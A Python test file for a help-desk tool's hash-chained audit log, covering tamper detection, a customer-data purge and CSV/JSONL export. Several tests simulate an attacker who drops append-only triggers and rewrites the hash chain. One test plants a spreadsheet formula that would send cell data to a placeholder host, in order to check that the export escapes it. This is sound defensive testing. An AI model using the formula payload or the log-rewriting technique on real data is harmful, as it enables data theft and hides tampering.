"""The audit trail: events are hash-chained in the order the store commits them (across
restarts and rolled-back steps); `audit verify` names an edited, deleted or inserted event;
an old database's events are chained by its migration; a purge removes customers' texts and
identities, keeps the figures and leaves the chain verifiable; `export` writes what the
database holds with the chain's head."""

from __future__ import annotations

import csv
import fcntl
import hashlib
import io
import json
import sqlite3
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from conftest import EXAMPLE_CONFIG
from helpforce.adapters.local.testing import DeskHarness
from helpforce.audit import head, parse_head, verify
from helpforce.cli import main
from helpforce.clock import ManualClock
from helpforce.config import Config
from helpforce.export import ExportError, export
from helpforce.purge import preview, purge
from helpforce.queries import show_question
from helpforce.report import Period, build
from helpforce.store import SCHEMA_VERSION, Store, Tx
from helpforce.store.chain import Chain, Verifier, record, split
from helpforce.store.migrations import MIGRATIONS

DAY = 86400.0


def _event(kind: str, qid: int | None = None, actor: str | None = None, at: float = 1000.0,
           **data: Any) -> dict[str, Any]:
    return {"question_id": qid, "at": at, "kind": kind, "actor": actor, "platform": "local",
            "data": json.dumps(data, sort_keys=True)}


async def _write(store: Store, *events: dict[str, Any]) -> None:
    async def step(tx: Tx) -> None:
        for e in events:
            tx.insert("events", e)

    await store.transaction(step)


async def _verify(path: Path, *expect: tuple[int, str]) -> Any:
    async with Store(path, readonly=True) as store:
        return await verify(store, expect)


def _raw(path: Path) -> sqlite3.Connection:
    """A connection that can tamper: the append-only triggers dropped, as an attacker with
    the file would."""
    conn = sqlite3.connect(path, isolation_level=None)
    conn.execute("DROP TRIGGER IF EXISTS events_no_update")
    conn.execute("DROP TRIGGER IF EXISTS events_no_delete")
    conn.execute("DROP TRIGGER IF EXISTS events_chained")
    conn.execute("DROP TRIGGER IF EXISTS events_head")
    return conn


async def _ten_events(path: Path) -> None:
    """Question #1, resolved long ago, and ten events of it: four notes by jdiaz, three
    messages from a customer, three offers (seven with a sealed part)."""
    async with Store(path) as store:
        async def question(tx: Tx) -> None:
            tx.insert("questions", {
                "id": tx.new_id("questions"), "platform": "local", "customer_id": "cust1",
                "customer_handle": "alice", "conversation": "help", "visibility": "public",
                "root_message": "m1", "state": "resolved", "created_at": 1000.0,
                "updated_at": 1500.0, "resolved_at": 1500.0})

        await store.transaction(question)
        await _write(store, *[
            _event("note", 1, "jdiaz", at=1000.0 + i, text=f"note {i}") if i % 3 == 0 else
            _event("received", 1, "local:cust1", at=1000.0 + i, message_id=f"m{i}")
            if i % 3 == 1 else _event("offered", 1, None, at=1000.0 + i, staff=["jdiaz"])
            for i in range(10)])


# -- the chain ---------------------------------------------------------------------------------


async def test_events_are_chained_in_order_and_across_a_restart(tmp_path: Path) -> None:
    path = tmp_path / "hf.db"
    await _ten_events(path)
    async with Store(path) as store:  # a restart: the head is read from the last event
        await _write(store, _event("resolved", 1, "jdiaz", at=2000.0))
    verdict = await _verify(path)
    assert verdict.ok, verdict.problems
    assert verdict.events == 11 and verdict.head_id == 11
    conn = sqlite3.connect(path)
    rows = conn.execute("SELECT id, hash FROM events ORDER BY id").fetchall()
    head = conn.execute("SELECT event_id, hash FROM audit_head").fetchone()
    conn.close()
    assert [r[0] for r in rows] == list(range(1, 12))
    assert head == rows[-1]
    # each hash is sha256(previous hash ‖ record): recompute the second by hand
    assert hashlib.sha256(bytes.fromhex(rows[0][1]) + record(
        2, 1, 1001.0, "received", None, "local", json.dumps({"message_id": "m1"}),
        _seal_of(path, 2))).hexdigest() == rows[1][1]


def _seal_of(path: Path, event_id: int) -> str:
    conn = sqlite3.connect(path)
    try:
        return str(conn.execute("SELECT seal FROM events WHERE id = ?", (event_id,)).fetchone()[0])
    finally:
        conn.close()


async def test_a_rolled_back_step_leaves_no_hole_in_the_chain(tmp_path: Path) -> None:
    path = tmp_path / "hf.db"
    async with Store(path) as store:
        async def good(tx: Tx) -> None:
            tx.insert("events", _event("note", 1, "jdiaz", text="kept"))

        async def bad(tx: Tx) -> None:
            tx.insert("events", _event("note", 1, "jdiaz", text="rolled back"))
            await tx.flush()
            raise RuntimeError("this step fails")

        # queued together: one group commit, the failing step rolled back alone
        futures = [store.submit(good), store.submit(bad), store.submit(good)]
        results = [await _settled(f) for f in futures]
        assert isinstance(results[1], RuntimeError)
        assert store.commits == 1
        with pytest.raises(RuntimeError):  # a lone failing step: the whole batch rolls back
            await store.transaction(bad)
        await store.transaction(good)
    verdict = await _verify(path)
    assert verdict.ok, verdict.problems
    conn = sqlite3.connect(path)
    ids = [r[0] for r in conn.execute("SELECT id FROM events ORDER BY id")]
    conn.close()
    assert ids == [1, 2, 3]


async def _settled(future: Any) -> Any:
    try:
        return await future
    except Exception as exc:
        return exc


async def test_sealed_parts_are_customer_accounts_and_note_texts() -> None:
    assert split("jdiaz", '{"a": 1}') == ("jdiaz", '{"a": 1}', None)  # staff: public
    actor, data, secret = split("telegram:4100", '{"message_id": "m1"}')
    assert actor is None and data == '{"message_id": "m1"}' and "telegram:4100" in str(secret)
    actor, data, secret = split("jdiaz", '{"text": "order 123", "x": 1}')
    assert actor == "jdiaz" and json.loads(data) == {"x": 1} and "order 123" in str(secret)
    # a purged row splits into the same public part
    assert split(None, data)[:2] == (None, data)


async def test_the_store_gives_events_their_id_and_hash() -> None:
    chain = Chain()
    with pytest.raises(ValueError, match="id and hash"):
        chain.append({**_event("note"), "id": 7})


# -- tampering ---------------------------------------------------------------------------------


@pytest.mark.parametrize("tamper, event_id, words", [
    ("UPDATE events SET data = '{\"staff\": [\"mallory\"]}' WHERE id = 3", 3, "does not match"),
    ("UPDATE events SET at = at + 60 WHERE id = 6", 6, "does not match"),
    ("UPDATE events SET kind = 'resolved' WHERE id = 9", 9, "does not match"),
    ("UPDATE events SET actor = 'local:someone' WHERE id = 2", 2, "seal"),
    ("UPDATE events SET data = '{\"text\": \"rewritten\"}' WHERE id = 4", 4, "seal"),
    ("DELETE FROM events WHERE id = 5", 6, "#5 deleted"),
    ("DELETE FROM events WHERE id IN (5, 6, 7)", 8, "#5–#7 deleted"),
    ("DELETE FROM events WHERE id = 1", 2, "before #2 deleted"),
    ("DELETE FROM events WHERE id = 10", 10, "deleted from the end"),
    ("INSERT INTO events (id, question_id, at, kind, actor, platform, data, hash) VALUES "
     "(11, 1, 2000, 'answered', 'mallory', 'local', '{}', '" + "ab" * 32 + "')", 11,
     "does not match"),
    ("INSERT INTO events (id, question_id, at, kind, actor, platform, data) VALUES "
     "(11, 1, 2000, 'answered', 'mallory', 'local', '{}')", 11, "no hash"),
    ("UPDATE events SET hash = '" + "cd" * 32 + "' WHERE id = 7", 7, "does not match"),
    ("UPDATE events SET salt = NULL, actor = NULL WHERE id = 2", 2, "no purge recorded it"),
    ("DELETE FROM audit_head", None, "no head row"),
])
async def test_audit_verify_names_the_tampered_event(
    tmp_path: Path, tamper: str, event_id: int | None, words: str,
) -> None:
    path = tmp_path / "hf.db"
    await _ten_events(path)
    assert (await _verify(path)).ok
    conn = _raw(path)
    conn.execute(tamper)
    conn.close()
    verdict = await _verify(path)
    assert not verdict.ok
    assert any(p.event_id == event_id and words in p.what for p in verdict.problems), \
        [str(p) for p in verdict.problems]


async def test_one_edited_event_is_reported_once(tmp_path: Path) -> None:
    path = tmp_path / "hf.db"
    await _ten_events(path)
    conn = _raw(path)
    conn.execute("UPDATE events SET platform = 'x' WHERE id = 3")
    conn.close()
    verdict = await _verify(path)
    assert [p.event_id for p in verdict.problems] == [3]  # the events after it still verify


async def test_a_rewritten_chain_is_caught_by_a_head_recorded_elsewhere(tmp_path: Path) -> None:
    path = tmp_path / "hf.db"
    await _ten_events(path)
    before = await _verify(path)
    recorded = (before.head_id, before.head_hash)
    # an attacker who knows the algorithm rewrites event 5 and re-chains everything after it
    conn = _raw(path)
    rows = conn.execute("SELECT id, question_id, at, kind, actor, platform, data, seal "
                        "FROM events ORDER BY id").fetchall()
    prev = bytes(32)
    for event_id, qid, at, kind, actor, platform, data, seal in rows:
        if event_id == 5:
            data = json.dumps({"staff": ["mallory"]})
        pub_actor, pub_data, _ = split(actor, data)
        digest = hashlib.sha256(prev + record(event_id, qid, at, kind, pub_actor, platform,
                                              pub_data, seal)).digest()
        conn.execute("UPDATE events SET data = ?, hash = ? WHERE id = ?",
                     (data, digest.hex(), event_id))
        prev = digest
    conn.execute("UPDATE audit_head SET hash = ?", (prev.hex(),))
    conn.close()
    assert (await _verify(path)).ok  # internally consistent again...
    verdict = await _verify(path, recorded)  # ...but not what was recorded
    assert [p.event_id for p in verdict.problems] == [10]
    assert "rewritten" in verdict.problems[0].what


async def test_the_log_stays_append_only(tmp_path: Path) -> None:
    path = tmp_path / "hf.db"
    await _ten_events(path)
    conn = sqlite3.connect(path, isolation_level=None)
    for sql in ("UPDATE events SET data = '{}' WHERE id = 3",
                "UPDATE events SET salt = NULL, at = 5 WHERE id = 2",  # a purge changes no time
                "UPDATE events SET salt = NULL WHERE id = 3",  # id 3 has no salt to drop
                "DELETE FROM events WHERE id = 1"):
        with pytest.raises(sqlite3.IntegrityError, match="append-only"):
            conn.execute(sql)
    with pytest.raises(sqlite3.IntegrityError, match="hash-chained"):
        conn.execute("INSERT INTO events (question_id, at, kind) VALUES (1, 1, 'note')")
    conn.close()


async def test_an_event_written_around_the_store_does_not_stop_the_desk(
    tmp_path: Path, caplog: pytest.LogCaptureFixture,
) -> None:
    path = tmp_path / "hf.db"
    await _ten_events(path)
    conn = _raw(path)
    conn.execute("INSERT INTO events (id, question_id, at, kind, data) "
                 "VALUES (11, 1, 2000, 'note', '{}')")
    conn.execute(MIGRATIONS[7][2])  # the head trigger back: the daemon's writes move it
    assert "events_head" in MIGRATIONS[7][2]
    conn.close()
    async with Store(path) as store:  # opens, says where the chain broke, goes on
        await _write(store, _event("resolved", 1, "jdiaz", at=2001.0))
    assert "events after #10 have no valid hash" in caplog.text
    verdict = await _verify(path)
    assert [p.event_id for p in verdict.problems] == [11]
    assert verdict.head_id == 12


def test_verifier_reports_a_purge_record_it_cannot_read() -> None:
    v = Verifier()
    chain = Chain()
    row = chain.append({**_event("purged"), "data": '{"events": "nonsense"}'})
    v.feed([row[c] for c in ("id", "question_id", "at", "kind", "actor", "platform", "data",
                             "hash", "seal", "salt")])
    verdict = v.finish(chain.head)
    assert [p.what for p in verdict.problems] == [
        "a purge record whose cutoff or questions cannot be read"]


def _feed(v: Verifier, row: dict[str, Any]) -> None:
    v.feed([row[c] for c in ("id", "question_id", "at", "kind", "actor", "platform", "data",
                             "hash", "seal", "salt")])


@pytest.mark.parametrize("qid, at, purged_questions, cutoff, ok", [
    (7, 100.0, [[5, 9]], 50.0, True),  # its question was purged
    (7, 100.0, [[8, 9]], 500.0, False),  # another question's purge
    (None, 100.0, [], 150.0, True),  # of no question, older than the cutoff
    (None, 100.0, [[1, 9]], 50.0, False),  # of no question, newer than the cutoff
])
def test_a_redaction_counts_only_where_a_later_purge_accounts_for_it(
    qid: int | None, at: float, purged_questions: list[list[int]], cutoff: float, ok: bool,
) -> None:
    chain = Chain()
    v = Verifier()
    row = chain.append(_event("received", qid, "local:cust1", at=at))
    row.update(actor=None, salt=None)  # as a purge leaves it
    _feed(v, row)
    _feed(v, chain.append({**_event("purged", at=1000.0), "actor": None, "data": json.dumps(
        {"cutoff": cutoff, "questions": purged_questions, "events": 1})}))
    verdict = v.finish(chain.head)
    assert verdict.redacted == 1
    assert verdict.ok is ok, verdict.problems


def test_parse_head() -> None:
    assert parse_head("12:" + "a" * 64) == (12, "a" * 64)
    with pytest.raises(ValueError, match="EVENT_ID:HASH"):
        parse_head("12:abc")


# -- migration ---------------------------------------------------------------------------------


async def test_an_old_databases_events_are_chained_by_the_migration(tmp_path: Path) -> None:
    path = tmp_path / "old.db"
    conn = sqlite3.connect(path, isolation_level=None)
    for number, statements in enumerate(MIGRATIONS[:6], 1):  # a database at version 6
        conn.execute("BEGIN")
        for statement in statements:
            conn.execute(statement)
        conn.execute(f"PRAGMA user_version={number}")
        conn.execute("COMMIT")
    conn.executemany(
        "INSERT INTO events (question_id, at, kind, actor, platform, data) VALUES (?,?,?,?,?,?)",
        [(1, 10.0, "received", "local:cust1", "local", '{"message_id": "u1"}'),
         (1, 11.0, "offered", None, "local", '{"staff": ["jdiaz"]}'),
         (1, 12, "note", "jdiaz", "local", '{"text": "called twice"}'),
         (None, 13.5, "status", "jdiaz", "local", '{"status": "on"}')])
    conn.close()
    async with Store(path) as store:  # migrates 6 -> current, chaining what is there
        await _write(store, _event("resolved", 1, "jdiaz", at=20.0))
    verdict = await _verify(path)
    assert verdict.ok, verdict.problems
    assert verdict.events == 5 and verdict.sealed == 2  # the customer's and the note
    conn = sqlite3.connect(path)
    assert conn.execute("PRAGMA user_version").fetchone()[0] == SCHEMA_VERSION
    assert conn.execute("SELECT COUNT(*) FROM events WHERE hash IS NULL").fetchone()[0] == 0
    conn.close()


# -- purge -------------------------------------------------------------------------------------


async def _day_at_the_desk(config: Config, path: Path, clock: ManualClock) -> None:
    """Three questions: two answered and resolved (one with a note and a move to DM), one
    still open."""
    async with DeskHarness(config, path, clock=clock) as h:
        h.customer("cust1", "help", "My TV keeps switching off, order 12345", handle="alice")
        h.customer("cust2", "help", "Where is my refund?", handle="bob")
        await h.settle()
        h.staff("staff-jd", "/claim 1")
        h.staff("staff-pr", "/claim 2")
        await h.settle()
        await clock.advance(120)
        h.staff("staff-jd", "/note 1 Alice called about order 12345 too")
        h.staff("staff-jd", "/answer 1 Turn off the eco timer.")
        h.staff("staff-pr", "/dm 2 Could you tell me your order number?")
        await h.settle()
        await clock.advance(600)
        h.staff("staff-jd", "/resolve 1")
        h.staff("staff-pr", "/resolve 2")
        await h.settle()
        await clock.advance(DAY * 50)
        h.customer("cust3", "help", "Is the store open on Sunday?", handle="carol")
        await h.settle()


async def test_purge_removes_customer_data_keeps_figures_and_the_chain(
    example_config: Config, tmp_path: Path,
) -> None:
    path = tmp_path / "hf.db"
    clock = ManualClock()
    t0 = clock.now()
    await _day_at_the_desk(example_config, path, clock)
    period = Period(t0 - 60, t0 + DAY * 60, "UTC")
    now = t0 + DAY * 95
    async with Store(path, readonly=True) as store:
        before = {i: await show_question(store, i) for i in (1, 2, 3)}
        report_before = await build(store, example_config, period, now)
        plan = await preview(store, older_than=90 * DAY, now=now)
    assert plan.questions == [1, 2]  # resolved 95 days ago; #3 is open
    assert plan.events >= 3  # the two customers' `received` and the note at least

    async with Store(path) as store:
        result = await purge(store, older_than=90 * DAY, now=now)
        again = await purge(store, older_than=90 * DAY, now=now)
    assert result.questions == [1, 2] and result.event_id is not None
    assert again.questions == [] and again.event_id is None  # nothing left to purge

    verdict = await _verify(path)
    assert verdict.ok, [str(p) for p in verdict.problems]
    assert verdict.purges == 1 and verdict.redacted == result.events

    conn = sqlite3.connect(path)
    dump = "\n".join(str(r) for table in ("questions", "messages", "events", "outbox")
                     for r in conn.execute(f"SELECT * FROM {table} WHERE question_id "
                                           "IN (1, 2)" if table != "questions" else
                                           "SELECT * FROM questions WHERE id IN (1, 2)"))
    for gone in ("12345", "alice", "bob", "cust1", "cust2", "eco timer", "refund",
                 "called about"):
        assert gone not in dump, gone
    # the open question keeps everything
    assert conn.execute("SELECT customer_handle FROM questions WHERE id = 3").fetchone() == \
        ("carol",)
    assert conn.execute("SELECT text FROM messages WHERE question_id = 3 AND kind = "
                        "'question'").fetchone() == ("Is the store open on Sunday?",)
    conn.close()

    async with Store(path, readonly=True) as store:
        after = {i: await show_question(store, i) for i in (1, 2, 3)}
        report_after = await build(store, example_config, period, now)
    for i in (1, 2, 3):
        for key in ("state", "created_at", "first_answer_at", "resolved_at", "claimed_by",
                    "offered_to", "claimed_by_history", "answered_by", "tags", "route"):
            assert after[i][key] == before[i][key], (i, key)
        assert [e["kind"] for e in after[i]["events"]] == \
            [e["kind"] for e in before[i]["events"]]
    report_before.pop("generated_at")
    report_after.pop("generated_at")
    assert report_after == report_before  # every figure kept

    # a redaction outside a purge is caught, even after one
    conn = _raw(path)
    sealed = conn.execute("SELECT id FROM events WHERE question_id = 3 AND salt IS NOT NULL "
                          "LIMIT 1").fetchone()[0]
    conn.execute("UPDATE events SET actor = NULL, salt = NULL WHERE id = ?", (sealed,))
    conn.close()
    verdict = await _verify(path)
    assert [(p.event_id, "no purge recorded it" in p.what) for p in verdict.problems] == \
        [(sealed, True)]


def test_purge_is_refused_while_the_daemon_holds_the_database(tmp_path: Path) -> None:
    import asyncio

    path = tmp_path / "hf.db"
    asyncio.run(_ten_events(path))
    with Path(str(path) + ".lock").open("a+") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX | fcntl.LOCK_NB)
        result = CliRunner().invoke(main, ["purge", "--db", str(path), "--older-than", "1s",
                                           "--yes", "--config", str(EXAMPLE_CONFIG)])
    assert result.exit_code == 1, result.output
    assert "daemon is using this database" in result.output


# -- the commands --------------------------------------------------------------------------------


def test_audit_verify_command(tmp_path: Path) -> None:
    import asyncio

    path = tmp_path / "hf.db"
    asyncio.run(_ten_events(path))
    runner = CliRunner()
    ok = runner.invoke(main, ["audit", "verify", "--db", str(path)])
    assert ok.exit_code == 0, ok.output
    assert "OK: 10 events" in ok.output
    head = ok.output.strip().splitlines()[-1].removeprefix("head: ")
    again = runner.invoke(main, ["audit", "verify", "--db", str(path), "--expect", head])
    assert again.exit_code == 0, again.output
    conn = _raw(path)
    conn.execute("UPDATE events SET kind = 'resolved' WHERE id = 4")
    conn.close()
    bad = runner.invoke(main, ["audit", "verify", "--db", str(path), "--json"])
    assert bad.exit_code == 1
    assert [p["event"] for p in json.loads(bad.output)["problems"]] == [4]
    wrong = runner.invoke(main, ["audit", "verify", "--db", str(path), "--expect", "4:xyz"])
    assert wrong.exit_code == 2 and "EVENT_ID:HASH" in wrong.output


def test_purge_command_dry_run_and_bad_duration(tmp_path: Path) -> None:
    import asyncio

    path = tmp_path / "hf.db"
    asyncio.run(_ten_events(path))
    runner = CliRunner()
    bad = runner.invoke(main, ["purge", "--db", str(path), "--older-than", "ninety days"])
    assert bad.exit_code == 2 and "--older-than" in bad.output
    dry = runner.invoke(main, ["purge", "--db", str(path), "--older-than", "1s", "--dry-run"])
    assert dry.exit_code == 0, dry.output
    assert "would purge 1 questions" in dry.output and "7 events' customer parts" in dry.output
    done = runner.invoke(main, ["purge", "--db", str(path), "--older-than", "1s", "--yes"])
    assert done.exit_code == 0, done.output
    assert "7 events' customer parts; recorded as event #11" in done.output
    verified = runner.invoke(main, ["audit", "verify", "--db", str(path)])
    assert verified.exit_code == 0, verified.output
    assert "11 events (7 sealed, 7 redacted by 1 purges)" in verified.output


# -- export ------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
async def test_export_writes_questions_and_events_with_the_head(
    example_config: Config, tmp_path: Path, fmt: str,
) -> None:
    path = tmp_path / "hf.db"
    await _day_at_the_desk(example_config, path, ManualClock())
    out = tmp_path / "archive"
    async with Store(path, readonly=True) as store:
        manifest = await export(store, out, fmt, now=1.0)
        verdict = await verify(store)
        with pytest.raises(ExportError, match="already exists"):
            await export(store, out, fmt, now=1.0)
        row = await store.fetchone("SELECT COUNT(*) FROM events")
        assert row is not None
        n_events = row[0]
    assert manifest["questions"] == 3 and manifest["events"] == n_events
    assert manifest["audit_head"] == {"id": verdict.head_id, "hash": verdict.head_hash}
    for name, meta in manifest["files"].items():
        assert hashlib.sha256((out / name).read_bytes()).hexdigest() == meta["sha256"]
    if fmt == "jsonl":
        questions = [json.loads(line) for line in
                     (out / "questions.jsonl").read_text(encoding="utf-8").splitlines()]
        events = [json.loads(line) for line in
                  (out / "events.jsonl").read_text(encoding="utf-8").splitlines()]
    else:
        questions = list(csv.DictReader(io.StringIO(
            (out / "questions.csv").read_text(encoding="utf-8"), newline="")))
        events = list(csv.DictReader(io.StringIO(
            (out / "events.csv").read_text(encoding="utf-8"), newline="")))
        for e in events:  # CSV is text: back to what the chain covers
            e.update(id=int(e["id"]), at=float(e["at"]),
                     question_id=int(e["question_id"]) if e["question_id"] else None,
                     **{k: e[k] or None for k in ("actor", "platform", "seal", "salt")})
    assert [q["id"] if fmt == "jsonl" else int(q["id"]) for q in questions] == [1, 2, 3]
    assert questions[0]["customer_handle"] == "alice"
    # the archive's events verify on their own, to the same head
    v = Verifier()
    for e in events:
        v.feed([e[c] for c in ("id", "question_id", "at", "kind", "actor", "platform", "data",
                               "hash", "seal", "salt")])
    archived = v.finish((verdict.head_id, verdict.head_hash))
    assert archived.ok, archived.problems
    assert archived.head_hash == manifest["audit_head"]["hash"]


def test_export_command(tmp_path: Path) -> None:
    import asyncio

    path = tmp_path / "hf.db"
    asyncio.run(_ten_events(path))
    runner = CliRunner()
    result = runner.invoke(main, ["export", "--db", str(path), "--format", "csv", "--out",
                                  str(tmp_path / "out")])
    assert result.exit_code == 0, result.output
    assert "1 questions and 10 events" in result.output
    again = runner.invoke(main, ["export", "--db", str(path), "--format", "csv", "--out",
                                 str(tmp_path / "out")])
    assert again.exit_code == 1 and "--force" in again.output
    bad = runner.invoke(main, ["export", "--db", str(path), "--format", "xml", "--out", "x"])
    assert bad.exit_code == 2


# -- tampering the store never does; reading while the daemon writes ----------------------------


async def test_an_event_forged_with_an_id_below_1_is_reported(tmp_path: Path) -> None:
    path = tmp_path / "hf.db"
    await _ten_events(path)
    conn = _raw(path)
    conn.execute("INSERT INTO events (id, question_id, at, kind, actor, platform, data, hash) "
                 "VALUES (-1, 1, 999.0, 'note', 'mallory', 'local', '{}', ?)", ("ab" * 32,))
    conn.close()
    verdict = await _verify(path)
    assert not verdict.ok
    assert any(p.event_id == -1 and "below 1" in p.what for p in verdict.problems)


@pytest.mark.parametrize("column, value", [
    ("question_id", 1.5), ("question_id", b"1"), ("at", b"1001.0"), ("actor", b"mallory"),
])
async def test_a_value_of_another_type_is_a_malformed_row(
    tmp_path: Path, column: str, value: object
) -> None:
    # 1.5 or a blob '1' hash like question 1, yet read as another question (or none)
    path = tmp_path / "hf.db"
    await _ten_events(path)
    conn = _raw(path)
    conn.execute(f"UPDATE events SET {column} = ? WHERE id = 3", (value,))
    conn.close()
    verdict = await _verify(path)
    assert any(p.event_id == 3 and "malformed row" in p.what and column in p.what
               for p in verdict.problems), verdict.problems


async def test_reads_in_a_snapshot_do_not_see_what_is_committed_meanwhile(
    tmp_path: Path,
) -> None:
    path = tmp_path / "hf.db"
    await _ten_events(path)
    async with Store(path) as writer, Store(path, readonly=True) as reader:
        async with reader.snapshot():
            before = await reader.fetchall("SELECT COUNT(*) FROM events")
            await _write(writer, _event("resolved", 1, "jdiaz", at=2000.0))
            during = await reader.fetchall("SELECT COUNT(*) FROM events")
            assert (await head(reader)) == (10, committed_hash(path, 10))
        after = await reader.fetchall("SELECT COUNT(*) FROM events")
    assert before[0][0] == during[0][0] == 10 and after[0][0] == 11


def committed_hash(path: Path, event_id: int) -> str:
    """The hash a committed event has (read straight from the file)."""
    conn = sqlite3.connect(path)
    try:
        return str(conn.execute("SELECT hash FROM events WHERE id = ?", (event_id,))
                   .fetchone()[0])
    finally:
        conn.close()


def test_a_file_that_is_not_a_database_is_a_clear_error(tmp_path: Path) -> None:
    garbage = tmp_path / "notes.db"
    garbage.write_text("not a database, just notes\n" * 100)
    runner = CliRunner()
    for args in (["audit", "verify"],
                 ["export", "--format", "csv", "--out", str(tmp_path / "out")]):
        result = runner.invoke(main, [*args, "--db", str(garbage)])
        assert result.exit_code == 1, result.output
        assert f"{garbage}: not a helpforce database" in result.output


def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_stays_text(tmp_path: Path) -> None:
    import asyncio

    path = tmp_path / "hf.db"
    asyncio.run(_ten_events(path))
    conn = sqlite3.connect(path)
    conn.execute("UPDATE questions SET customer_handle = ?",
                 ('=HYPERLINK("http://example.invalid/?"&A1,"click")',))
    conn.commit()
    conn.close()
    result = CliRunner().invoke(main, ["export", "--db", str(path), "--format", "csv",
                                       "--out", str(tmp_path / "out")])
    assert result.exit_code == 0, result.output
    with (tmp_path / "out" / "questions.csv").open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert rows[0]["customer_handle"] == '\'=HYPERLINK("http://example.invalid/?"&A1,"click")'


async def test_what_a_customer_adds_to_a_purged_question_goes_with_the_next_purge(
    tmp_path: Path,
) -> None:
    # #1 is purged; later the customer edits an old message (an `ignored` event naming them);
    # the next purge whose cutoff that is older than removes them from it too, and the chain
    # still verifies (the first purge did not record it: it came after)
    path = tmp_path / "hf.db"
    await _ten_events(path)
    async with Store(path) as store:
        first = await purge(store, older_than=100.0, now=2000.0)
        assert first.questions == [1]
        await _write(store, _event("ignored", 1, "local:cust1", at=2500.0, message_id="m1"))
        early = await purge(store, older_than=100.0, now=2550.0)  # cutoff 2450: too young
        assert early.events == 0
        second = await purge(store, older_than=100.0, now=3000.0)
    assert second.questions == [] and second.events == 1
    conn = sqlite3.connect(path)
    actors = [r[0] for r in conn.execute("SELECT actor FROM events WHERE kind = 'ignored'")]
    conn.close()
    assert actors and "cust1" not in str(actors)
    verdict = await _verify(path)
    assert verdict.ok, [str(p) for p in verdict.problems]
    assert verdict.purges == 2
